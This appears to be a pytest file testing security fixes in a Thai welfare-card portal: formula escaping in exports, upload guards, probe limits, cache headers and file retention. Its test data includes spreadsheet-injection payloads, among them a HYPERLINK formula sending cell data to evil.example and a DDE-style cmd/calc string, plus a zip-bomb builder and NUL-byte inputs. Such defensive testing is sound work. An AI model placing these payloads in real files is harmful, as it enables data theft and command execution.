"""Issue 16, the files: what the portal writes (findings 6 and 11), what it takes in (7, 8 and 13), and the
requests around them (11 and 12).

Every CSV and XLSX the portal gives out escapes formulas, the agency's list and the admin's exports included;
every upload door (the import page, the agency's list, the admin's import) passes one guard that also caps
blank rows; an import keeps the first IMPORT_MAX_ERRORS errors and their total; the roster preview does not
tell a province who holds a card elsewhere, logs such rows and stops a user who keeps probing; pages with
personal data are not kept in the browser's cache; uploaded files do not stay for ever; a NUL byte in a
query or a form is a 400, not a 500; and the admin's roster import takes empty optional cells."""

import csv
import datetime
import io
import os
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.http import HttpResponse
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone

from cardholders.importers import InterviewImporter, RosterImporter
from cardholders.importers.spreadsheets import SafeCSV, SafeXLSX
from cardholders.importers.uploads import UploadRejected, check_upload_file
from cardholders.models import Cardholder, ImportJob
from cardholders.resources import CardholderResource
from matching.services import delegation_create
from welfare_portal.models import AccessLog, DevelopmentUnit, Role

from .builders import INTERVIEW_HEADER, ROSTER_HEADER, write_csv, write_xlsx
from .conftest import (
    SUBDISTRICT_MUEANG_LAMPANG,
    SUBDISTRICT_SAMUT_PRAKAN,
    make_cardholder,
    make_user,
    valid_national_id,
)
from .matching_builders import applicant
from .test_import_queue import processes, queued, start_worker  # noqa: F401  (fixtures)

# What spreadsheets run as formulas: a leading = + - @, a tab or a carriage return.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"คลิก")',
    "==1+1",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
]
LIVE = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.IMPORTS_IN_BACKGROUND = False
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def xlsx_cells(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_live_formula_in_xlsx(content: bytes):
    cells = xlsx_cells(content)
    assert cells
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells if c.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(LIVE)]


def assert_no_live_formula_in_csv(text: str):
    values = [value for row in csv.reader(io.StringIO(text)) for value in row]
    assert values
    assert not [value for value in values if value.startswith(LIVE)]


def roster_upload(rows, name="roster.csv", header=ROSTER_HEADER):
    lines = [",".join(header)] + [",".join(map(str, row)) for row in rows]
    return SimpleUploadedFile(name, ("\n".join(lines) + "\n").encode("utf-8-sig"), content_type="text/csv")


def roster_row(n, first="สมชาย", subdistrict=520101, national_id=None):
    return [national_id or valid_national_id(n), "นาย", first, "ใจดี", "", "", "", "", subdistrict]


# ---- finding 6: one writer that escapes, for every file ------------------------------------------------


@pytest.fixture
def agency_with_a_formula_name(db):
    cdd = DevelopmentUnit.objects.get(code="CDD")
    kjj = make_user("kjj52", Role.KJJ, province_id=52)
    person = applicant("CDD01", "DSD01")
    Cardholder.objects.filter(pk=person.pk).update(title="", first_name=FORMULAS[0], last_name="+SUM(A1:A9)")
    delegation_create(province=kjj.province, unit=cdd, user=kjj)
    return make_user("cdd52", Role.UNIT, province_id=52, unit=cdd), person


def test_the_agencys_delegated_list_has_no_live_formula_and_is_logged(client, agency_with_a_formula_name):
    agency, person = agency_with_a_formula_name
    client.force_login(agency)
    response = client.get(reverse("delegated_cases"), {"format": "xlsx"})
    assert response.status_code == 200
    assert_no_live_formula_in_xlsx(response.content)
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.values)
    assert rows[1][0] == person.national_id_display  # agencies check rosters: the full ID (3-1234-…), as before
    assert rows[1][1].startswith("'=HYPERLINK")
    log = AccessLog.objects.get(user=agency, action=AccessLog.Action.EXPORT_LIST)
    assert person.national_id not in log.detail


def _admin_export(client, model: str, fmt: str, fields: list[str]) -> HttpResponse:
    url = reverse(f"admin:cardholders_{model}_export")
    form = client.get(url).context["form"]
    formats = {title: value for value, title in form.fields["format"].choices}
    data = {"format": formats[fmt], "resource": "0", **{f"{model}resource_{name}": "on" for name in fields}}
    return client.post(url, data)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_admin_export_escapes_every_formula_in_csv_and_xlsx_and_is_logged(client, central, fmt):
    for text in FORMULAS:
        make_cardholder(title=text[:50], first_name=text, last_name=text, phone=text[:30], village=text)
    client.force_login(central)
    fields = ["national_id", "title", "first_name", "last_name", "phone", "village", "subdistrict"]
    response = _admin_export(client, "cardholder", fmt, fields)
    assert response.status_code == 200 and response["Content-Disposition"].endswith(f'.{fmt}"')
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        assert_no_live_formula_in_csv(text)
        assert "'==1+1" in text and "'+SUM(A1:A9)" in text
    else:
        assert_no_live_formula_in_xlsx(response.content)
    assert AccessLog.objects.filter(user=central, action=AccessLog.Action.EXPORT_LIST).count() == 1


def test_every_admin_with_an_export_button_offers_only_escaping_formats(db):
    exporting = [
        model_admin for model_admin in admin.site._registry.values() if hasattr(model_admin, "get_export_formats")
    ]
    assert exporting
    for model_admin in exporting:
        formats = model_admin.get_export_formats()
        assert formats and all(issubclass(f, SafeCSV | SafeXLSX) for f in formats), model_admin


# ---- finding 7: errors kept to IMPORT_MAX_ERRORS with their total ----------------------------------------


def test_it_keeps_the_first_1000_errors_and_says_how_many_there_were(client, province_user, settings):
    assert settings.IMPORT_MAX_ERRORS == 1000
    client.force_login(province_user)
    rows = [roster_row(n, first="") for n in range(1, 1501)]  # every row lacks its first name
    client.post(reverse("import_upload"), {"kind": "roster", "file": roster_upload(rows)})
    job = ImportJob.objects.get()
    assert job.status == "rejected"
    assert len(job.errors) == 1000 and job.error_count == 1500
    assert [row for row, _, _ in job.errors[:3]] == [2, 3, 4]  # the first ones, in the file's order
    page = client.get(reverse("import_job", args=[job.pk])).content.decode()
    assert "พบข้อผิดพลาด 1,500 รายการ" in page
    assert "แสดง 1,000 รายการแรกจากทั้งหมด 1,500 รายการ" in page
    workbook = client.get(reverse("import_job_errors", args=[job.pk]))
    values = [value for cell in xlsx_cells(workbook.content) if (value := cell.value) is not None]
    assert "แสดง 1,000 รายการแรกจากทั้งหมด 1,500 รายการ" in values
    rows = list(openpyxl.load_workbook(io.BytesIO(workbook.content)).active.values)
    assert rows[0] == ("แถวที่", "คอลัมน์", "ข้อผิดพลาด") and rows[1][:2] == (2, "ชื่อ")
    assert len([row for row in rows if isinstance(row[0], int)]) == 1000


def test_the_errors_a_database_check_finds_are_capped_too(db, tmp_path, settings):
    settings.IMPORT_MAX_ERRORS = 10
    rows = [[valid_national_id(n), "1/6/2561", 1, "CDD01", "", "", "", ""] for n in range(1, 31)]  # nobody known
    result = InterviewImporter().run(write_csv(tmp_path / "i.csv", INTERVIEW_HEADER, rows))
    assert not result.ok
    assert len(result.errors) == 10 and result.error_count == 30
    assert [error.row for error in result.errors] == list(range(2, 12))


def test_the_command_prints_the_first_errors_and_the_total(db, tmp_path, settings, capsys):
    settings.IMPORT_MAX_ERRORS = 5
    path = write_csv(tmp_path / "r.csv", ROSTER_HEADER, [roster_row(n, first="") for n in range(1, 21)])
    with pytest.raises(SystemExit):
        call_command("import_roster", str(path))
    err = capsys.readouterr().err
    assert err.count("แถวที่") == 5
    assert "พบข้อผิดพลาด 20 รายการ" in err and "แสดง 5 รายการแรกจากทั้งหมด 20 รายการ" in err


def test_a_progress_file_with_more_errors_than_kept_is_still_checked_to_its_end(db, tmp_path, settings):
    from development.importers import ProgressImporter

    settings.IMPORT_MAX_ERRORS = 3
    header = ["เลขประจำตัวประชาชน", "หน่วยงานที่ดำเนินการพัฒนา", "โครงการ", "จังหวัดที่ดำเนินการพัฒนา", "สถานะ"]
    rows = [[valid_national_id(n), "CDD", "NOPE", "52", "อยู่ระหว่างการพัฒนา"] for n in range(1, 11)]
    result = ProgressImporter().run(write_csv(tmp_path / "p.csv", header, rows))
    assert not result.ok and len(result.errors) == 3 and result.error_count == 10


# ---- finding 7: blank rows count, before anything reads the file --------------------------------------


def _blank_csv(path: Path, blank_rows: int) -> Path:
    with path.open("wb") as f:
        f.write(",".join(ROSTER_HEADER).encode() + b"\n")
        f.write(b",,,,,,,,\n" * blank_rows)
    return path


def _blank_xlsx(path: Path, last_row: int, every_row: bool) -> Path:
    """A sheet with the header, then rows whose only cell holds an empty string, up to `last_row`."""
    from .test_upload_guard import inline, write_raw_xlsx

    header = "".join(inline(f"{chr(65 + i)}1", name) for i, name in enumerate(ROSTER_HEADER))
    blank = '<row r="{0}"><c r="A{0}" t="inlineStr"><is><t></t></is></c></row>'
    rows = range(2, last_row + 1) if every_row else [last_row]
    return write_raw_xlsx(path, f'<row r="1">{header}</row>' + "".join(blank.format(n) for n in rows))


@pytest.fixture
def no_reader(monkeypatch):
    """Fails the test if an importer starts reading the file: the guard must refuse it first."""
    from cardholders.importers import base

    def refuse(*args, **kwargs):
        raise AssertionError("the file was read")

    monkeypatch.setattr(base, "read_table", refuse)


def test_a_csv_of_three_million_blank_rows_is_refused_before_it_is_read(client, province_user, tmp_path, no_reader):
    path = _blank_csv(tmp_path / "blank.csv", 3_000_000)
    with pytest.raises(UploadRejected, match="2,000,000"):
        check_upload_file(path.name, path, path.stat().st_size)
    client.force_login(province_user)
    with path.open("rb") as f:
        client.post(reverse("import_upload"), {"kind": "roster", "file": f})
    job = ImportJob.objects.get()
    assert job.status == "rejected" and "2,000,000" in job.errors[0][2]


def test_an_xlsx_with_three_million_blank_rows_is_refused_before_it_is_read(client, province_user, tmp_path, no_reader):
    far = _blank_xlsx(tmp_path / "far.xlsx", 3_000_001, every_row=False)
    with pytest.raises(UploadRejected, match="2,000,000"):
        check_upload_file(far.name, far, far.stat().st_size)
    client.force_login(province_user)
    with far.open("rb") as f:
        client.post(reverse("import_upload"), {"kind": "roster", "file": f})
    assert "2,000,000" in ImportJob.objects.get().errors[0][2]


def test_a_csv_line_of_a_million_empty_cells_is_refused_before_it_is_read(client, province_user, tmp_path, no_reader):
    path = tmp_path / "wide.csv"
    path.write_bytes(",".join(ROSTER_HEADER).encode() + b"," * 1_000_000 + b"\n")
    client.force_login(province_user)
    with path.open("rb") as f:
        client.post(reverse("import_upload"), {"kind": "roster", "file": f})
    job = ImportJob.objects.get()
    assert job.status == "rejected" and "เกินกำหนด 200 คอลัมน์" in job.errors[0][2]


def test_blank_rows_count_against_the_row_limit_in_every_format(tmp_path, settings):
    settings.IMPORT_MAX_ROWS = 1000
    for path in (_blank_csv(tmp_path / "b.csv", 3000), _blank_xlsx(tmp_path / "b.xlsx", 3001, every_row=True)):
        with pytest.raises(UploadRejected, match="1,000 แถวข้อมูล"):
            check_upload_file(path.name, path, path.stat().st_size)
    fine = _blank_csv(tmp_path / "fine.csv", 1000)
    assert check_upload_file(fine.name, fine, fine.stat().st_size) == ".csv"


# ---- finding 7: the admin's import passes the same guard -------------------------------------------------


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (60 * 1024 * 1024))
    return buffer.getvalue()


def _far_cell_workbook(tmp_path) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(ROSTER_HEADER)
    workbook.active.cell(row=1_048_576, column=16_384, value=1)
    workbook.save(tmp_path / "far.xlsx")
    return (tmp_path / "far.xlsx").read_bytes()


def _admin_import(client, name: str, content: bytes, model="cardholder"):
    url = reverse(f"admin:cardholders_{model}_import")
    form = client.get(url).context["form"]
    formats = {title: value for value, title in form.fields["format"].choices}
    upload = SimpleUploadedFile(name, content)
    return client.post(url, {"resource": "0", "format": formats[Path(name).suffix[1:]], "import_file": upload})


@pytest.mark.parametrize("case", ["zip bomb", "far cell", "blank rows"])
def test_the_admin_import_refuses_what_the_import_page_refuses(client, central, tmp_path, settings, case):
    settings.IMPORT_MAX_ROWS = 1000
    if case == "zip bomb":
        name, content, message = "roster.xlsx", _zip_bomb(), "ขยายตัวผิดปกติ"
    elif case == "far cell":
        name, content, message = "roster.xlsx", _far_cell_workbook(tmp_path), "XFD"
    else:
        name, content, message = "roster.csv", _blank_csv(tmp_path / "b.csv", 3000).read_bytes(), "1,000 แถวข้อมูล"
    client.force_login(central)
    response = _admin_import(client, name, content)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    assert Cardholder.objects.count() == 0


def test_the_admin_import_refuses_a_file_over_the_size_limit_and_content_that_is_not_its_kind(
    client, central, settings
):
    client.force_login(central)
    assert "ไม่ใช่ไฟล์ Excel (.xlsx) จริง" in _admin_import(client, "r.xlsx", b"not a zip").content.decode()
    settings.IMPORT_MAX_UPLOAD_BYTES = 100
    assert "ไฟล์ใหญ่เกิน" in _admin_import(client, "r.csv", b"x," * 200).content.decode()


def test_the_admin_import_confirms_only_its_own_stored_file(client, central, tmp_path):
    outside = Path(tempfile.gettempdir()) / "welfare-not-an-upload.csv"
    write_csv(outside, ROSTER_HEADER, [roster_row(5)])
    try:
        client.force_login(central)
        url = reverse("admin:cardholders_cardholder_process_import")
        data = {"import_file_name": outside.name, "original_file_name": "r.csv", "format": "0", "resource": "0"}
        response = client.post(url, data)
        assert response.status_code == 400
        assert Cardholder.objects.count() == 0
    finally:
        outside.unlink(missing_ok=True)


# ---- finding 13: the admin's roster import with empty optional cells -----------------------------------


def test_the_admin_roster_resource_takes_empty_optional_cells(db):
    dataset = tablib.Dataset(headers=ROSTER_HEADER)
    dataset.append([valid_national_id(7), None, "สมชาย", "ใจดี", None, None, None, None, 520101])
    result = CardholderResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), result.invalid_rows
    person = Cardholder.objects.get()
    assert (person.title, person.phone, person.house_no, person.moo, person.village) == ("", "", "", "", "")
    nameless = tablib.Dataset(headers=ROSTER_HEADER)
    nameless.append([valid_national_id(9), None, None, "ใจดี", None, None, None, None, 520101])
    refused = CardholderResource().import_data(nameless, dry_run=False)
    assert refused.has_validation_errors() and Cardholder.objects.count() == 1  # a required cell stays required


def test_an_admin_xlsx_roster_with_empty_optional_cells_previews_and_imports(client, central, tmp_path):
    path = write_xlsx(
        tmp_path / "r.xlsx",
        ROSTER_HEADER,
        [[valid_national_id(8), None, "สมหญิง", "ใจดี", None, None, None, None, 520101]],
    )
    client.force_login(central)
    response = _admin_import(client, "r.xlsx", path.read_bytes())
    confirm = response.context["confirm_form"]
    assert confirm is not None, response.content.decode()[-3000:]
    stored = confirm.initial["import_file_name"]
    done = client.post(reverse("admin:cardholders_cardholder_process_import"), confirm.initial)
    assert done.status_code == 302
    person = Cardholder.objects.get()
    assert (person.first_name, person.title, person.village) == ("สมหญิง", "", "")
    assert not list(Path(media_root()).rglob(stored))  # the stored upload is gone once imported


def media_root():
    from django.conf import settings

    return settings.MEDIA_ROOT


# ---- finding 8: the roster preview is no oracle --------------------------------------------------------


def test_the_roster_preview_does_not_say_that_an_id_is_a_card_holder_elsewhere(client, province_user):
    elsewhere = make_cardholder(SUBDISTRICT_SAMUT_PRAKAN)
    client.force_login(province_user)
    files = {
        "elsewhere.csv": [roster_row(0, national_id=elsewhere.national_id)],  # a card holder of Samut Prakan
        "nobody.csv": [roster_row(2, subdistrict=SUBDISTRICT_SAMUT_PRAKAN)],  # nobody, outside Lampang
    }
    for name, rows in files.items():
        client.post(reverse("import_upload"), {"kind": "roster", "file": roster_upload(rows, name=name)})
    errors = {job.original_name: job.errors for job in ImportJob.objects.all()}
    assert [row for row, _, _ in errors["elsewhere.csv"]] == [2] and [row for row, _, _ in errors["nobody.csv"]] == [2]
    said = errors["elsewhere.csv"][0][2]
    assert said == errors["nobody.csv"][0][2]  # the same words for a card holder elsewhere and for nobody
    assert "จังหวัดอื่น" not in said and "อยู่ในความดูแล" not in said
    log = AccessLog.objects.get(user=province_user, action=AccessLog.Action.PROBE_OUTSIDE)
    assert log.detail == "1" and log.cardholder_id is None  # a count, no ID


def test_a_province_that_keeps_probing_is_refused_uploads_for_a_while(client, province_user, outsider, monkeypatch):
    from cardholders.importers import probes

    monkeypatch.setattr(probes, "PROBE_LIMIT", 5)
    people = [make_cardholder(SUBDISTRICT_SAMUT_PRAKAN) for _ in range(8)]
    client.force_login(province_user)
    rows = [roster_row(0, national_id=person.national_id) for person in people]
    client.post(reverse("import_upload"), {"kind": "roster", "file": roster_upload(rows)})
    job = ImportJob.objects.get()
    named = [row for row, _, _ in job.errors if row]
    assert named == [2, 3, 4, 5, 6]  # no more rows named than the budget allows
    assert any("อีก 3 แถว" in message for _, _, message in job.errors)
    assert AccessLog.objects.get(action=AccessLog.Action.PROBE_OUTSIDE).detail == "8"

    again = client.post(
        reverse("import_upload"), {"kind": "roster", "file": roster_upload([roster_row(1)])}, follow=True
    )
    assert "งดรับไฟล์" in again.content.decode() and ImportJob.objects.count() == 1

    client.force_login(outsider)  # another account is not held back
    client.post(
        reverse("import_upload"),
        {"kind": "roster", "file": roster_upload([roster_row(3, subdistrict=SUBDISTRICT_SAMUT_PRAKAN)])},
    )
    assert ImportJob.objects.count() == 2

    AccessLog.objects.update(at=timezone.now() - probes.PROBE_WINDOW - datetime.timedelta(minutes=1))
    client.force_login(province_user)
    client.post(reverse("import_upload"), {"kind": "roster", "file": roster_upload([roster_row(1)])})
    assert ImportJob.objects.count() == 3


def test_small_probes_add_up(client, province_user, monkeypatch):
    from cardholders.importers import probes

    monkeypatch.setattr(probes, "PROBE_LIMIT", 3)
    client.force_login(province_user)
    for _ in range(3):
        person = make_cardholder(SUBDISTRICT_SAMUT_PRAKAN)
        client.post(
            reverse("import_upload"),
            {"kind": "roster", "file": roster_upload([roster_row(0, national_id=person.national_id)])},
        )
    refused = client.post(
        reverse("import_upload"), {"kind": "roster", "file": roster_upload([roster_row(1)])}, follow=True
    )
    assert "งดรับไฟล์" in refused.content.decode() and ImportJob.objects.count() == 3


def test_central_imports_are_not_probes(db, tmp_path):
    person = make_cardholder(SUBDISTRICT_SAMUT_PRAKAN)
    result = RosterImporter().run(
        write_csv(
            tmp_path / "r.csv",
            ROSTER_HEADER,
            [roster_row(0, national_id=person.national_id, subdistrict=SUBDISTRICT_MUEANG_LAMPANG)],
        )
    )
    assert result.ok and result.updated == 1
    assert not AccessLog.objects.exists()


# ---- finding 11: no personal data in the browser's cache ------------------------------------------------


def _no_store(response) -> bool:
    value = response.get("Cache-Control", "")
    return "no-store" in value and "private" in value


def test_pages_and_files_with_personal_data_are_not_cached(client, province_user, central):
    person = make_cardholder()
    client.force_login(province_user)
    client.post(reverse("import_upload"), {"kind": "roster", "file": roster_upload([roster_row(1, first="")])})
    job = ImportJob.objects.get()
    urls = [
        reverse("profile", args=[person.pk]),
        reverse("menu_page", args=["1.2"]) + "?district=5201",
        reverse("menu_page", args=["1.2"]) + "?district=5201&format=csv",
        reverse("menu_page", args=["1.2"]) + "?district=5201&format=xlsx",
        reverse("import_upload"),
        reverse("import_job", args=[job.pk]),
        reverse("import_job_status", args=[job.pk]),
        reverse("import_job_errors", args=[job.pk]),
        reverse("home"),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert _no_store(response), url
    client.force_login(central)
    for url in (
        reverse("admin:cardholders_cardholder_changelist"),
        reverse("admin:cardholders_cardholder_change", args=[person.pk]),
    ):
        assert _no_store(client.get(url)), url


def test_the_cache_rule_leaves_static_files_anonymous_pages_and_a_views_own_choice_alone(province_user):
    from django.contrib.auth.models import AnonymousUser

    from welfare_portal.middleware import NoStoreForSignedInMiddleware

    def request(path, user):
        req = RequestFactory().get(path)
        req.user = user
        return req

    plain = NoStoreForSignedInMiddleware(lambda request: HttpResponse("x"))
    assert not plain(request("/static/welfare_portal/site.css", province_user)).has_header("Cache-Control")
    assert not plain(request("/login/", AnonymousUser())).has_header("Cache-Control")

    def chosen(request):
        response = HttpResponse("x")
        response["Cache-Control"] = "max-age=60"
        return response

    assert NoStoreForSignedInMiddleware(chosen)(request("/menu/1.1/", province_user))["Cache-Control"] == "max-age=60"


# ---- finding 11: uploaded files do not stay for ever ----------------------------------------------------


def _stored(job) -> Path:
    return Path(ImportJob.objects.values_list("stored_path", flat=True).get(pk=job.pk) or "/nonexistent")


def test_with_no_retention_a_file_is_deleted_as_soon_as_its_job_ends(client, province_user, settings, media):
    settings.UPLOAD_RETENTION_DAYS = 0
    client.force_login(province_user)
    client.post(reverse("import_upload"), {"kind": "roster", "file": roster_upload([roster_row(1, first="")])})
    rejected = ImportJob.objects.get()
    assert rejected.status == "rejected" and not _stored(rejected).exists()
    assert rejected.original_name == "roster.csv" and rejected.errors  # the job's history stays

    client.post(reverse("import_upload"), {"kind": "roster", "file": roster_upload([roster_row(2)])})
    previewed = ImportJob.objects.exclude(pk=rejected.pk).get()
    assert previewed.status == "previewed" and _stored(previewed).exists()  # waiting for its confirmation
    client.post(reverse("import_job_confirm", args=[previewed.pk]))
    previewed.refresh_from_db()
    assert previewed.status == "done" and not Path(previewed.stored_path or "/nonexistent").exists()
    assert not [path for path in Path(media).rglob("*") if path.is_file()]


def test_the_sweep_deletes_files_of_jobs_that_ended_longer_ago_than_the_retention(
    client, province_user, settings, media
):
    from cardholders.importers.retention import uploads_expire

    settings.UPLOAD_RETENTION_DAYS = 7
    client.force_login(province_user)
    client.post(reverse("import_upload"), {"kind": "roster", "file": roster_upload([roster_row(1, first="")])})
    client.post(reverse("import_upload"), {"kind": "roster", "file": roster_upload([roster_row(2)])})
    rejected, previewed = ImportJob.objects.order_by("pk")
    assert previewed.preview  # the first rows as they will be written: names, IDs
    files = {job.pk: _stored(job) for job in (rejected, previewed)}
    orphan_old, orphan_new = Path(media) / "imports" / "old.csv", Path(media) / "imports" / "new.csv"
    orphan_old.write_text("x"), orphan_new.write_text("x")
    eight_days = (timezone.now() - datetime.timedelta(days=8)).timestamp()
    os.utime(orphan_old, (eight_days, eight_days))
    uploads_expire()
    assert all(path.exists() for path in files.values()) and orphan_new.exists()
    assert not orphan_old.exists()  # left by nobody's job, older than the retention

    ImportJob.objects.update(finished_at=timezone.now() - datetime.timedelta(days=8))
    uploads_expire()
    assert not any(path.exists() for path in files.values()) and orphan_new.exists()
    rejected.refresh_from_db(), previewed.refresh_from_db()
    assert rejected.status == "rejected" and rejected.original_name == "roster.csv"
    assert previewed.status == "failed" and "ส่งไฟล์" in previewed.failure_message  # never confirmed
    assert previewed.preview == []  # its rows went with the file
    page = client.get(reverse("import_job", args=[previewed.pk])).content.decode()
    assert reverse("import_job_confirm", args=[previewed.pk]) not in page


@pytest.mark.usefixtures("live_db")
def test_the_worker_deletes_uploads_kept_longer_than_the_retention(queued, processes):  # noqa: F811
    user = make_user("P5200", Role.PROVINCE, province_id=52)
    folder = Path(queued.MEDIA_ROOT) / "imports"
    folder.mkdir(parents=True)
    old, recent = folder / "old.csv", folder / "recent.csv"
    for path in (old, recent):
        path.write_text("x")
    for path, ended in ((old, timezone.now() - datetime.timedelta(days=8)), (recent, timezone.now())):
        ImportJob.objects.create(
            kind="roster",
            original_name=path.name,
            stored_path=str(path),
            uploaded_by=user,
            status="done",
            finished_at=ended,
        )
    worker = start_worker(processes, "--batch")
    assert worker.wait(timeout=60) == 0, Path(worker.log_path).read_text()
    assert not old.exists() and recent.exists()
    assert ImportJob.objects.get(original_name="old.csv").stored_path == ""


# ---- finding 12: NUL bytes ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/menu/1.2/?district=5201&q=%00",
        "/menu/3.1/?unit=%00",
        "/menu/4.2/?unit=%00",
        "/menu/1.2/?district=52%0001",
        "/imports/?%00=1",
    ],
)
def test_a_nul_byte_in_a_query_is_a_400_not_a_500(client, central, province_user, url):
    client.raise_request_exception = False
    for user in (central, province_user):
        client.force_login(user)
        response = client.get(url)
        assert response.status_code == 400, (user, url)
        assert "ไม่ถูกต้อง" in response.content.decode()


def test_a_nul_byte_in_a_form_or_a_file_name_is_a_400(client, province_user):
    client.raise_request_exception = False
    client.force_login(province_user)
    response = client.post(reverse("paper_forms"), {"district": "5201\x00", "received": ["1"]})
    assert response.status_code == 400
    upload = SimpleUploadedFile("roster\x00.csv", ",".join(ROSTER_HEADER).encode() + b"\n")
    response = client.post(reverse("import_upload"), {"kind": "roster", "file": upload})
    assert response.status_code in (302, 400)  # refused, or the name cleaned by the upload parser
    assert not [name for name in ImportJob.objects.values_list("original_name", flat=True) if "\x00" in name]
    response = client.post(reverse("login"), {"username": "P5200\x00", "password": "x"})
    assert response.status_code == 400
